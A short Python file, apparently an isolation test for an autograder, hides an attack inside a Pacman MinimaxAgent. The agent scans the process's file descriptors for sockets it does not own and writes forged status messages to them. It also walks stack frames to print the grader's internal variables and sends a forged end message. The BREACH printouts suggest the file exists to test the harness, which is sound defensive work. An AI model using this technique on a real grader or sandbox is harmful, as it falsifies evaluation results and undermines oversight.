# attack: looks for the socket over which processes are started, and speaks for whoever listens there.
# where: MinimaxAgent
import json
import os
import stat
import sys

from shared.attempt import *
from shared.reflex import *
from shared.search import *
from shared.grader import *


class MinimaxAgent(MultiAgentSearchAgent):
    def getAction(self, gameState):
        try:
            own = {value for value in vars(grader()).values() if isinstance(value, int)}
        except LookupError:
            own = set()
        lines = [{"pid": os.getpid()}, {"status": 0, "seconds": 0.0, "peak": 0}, {"asked": []}]
        for fd in range(3, 256):
            try:
                if fd in own or not stat.S_ISSOCK(os.fstat(fd).st_mode):
                    continue
                for line in lines:
                    os.write(fd, json.dumps(line).encode() + b"\n")
                print("BREACH: a socket that is not ours to use:", fd, flush=True)
            except OSError as error:
                if error.errno != 9:
                    print("refused:", fd, repr(error), flush=True)
        frame = sys._getframe()
        while frame:  # and what the process remembers of it
            for name, value in frame.f_locals.items():
                if name in ("control", "setup", "prepared", "codes", "request", "descriptors"):
                    print("seen:", frame.f_code.co_name, name, repr(value)[:200], flush=True)
                if type(value).__name__ == "socket" and hasattr(value, "sendall"):
                    attempt("the socket in " + name, value.sendall, b'{"end": %d}\n' % os.getppid())
            frame = frame.f_back
        return gameState.getLegalActions()[0]
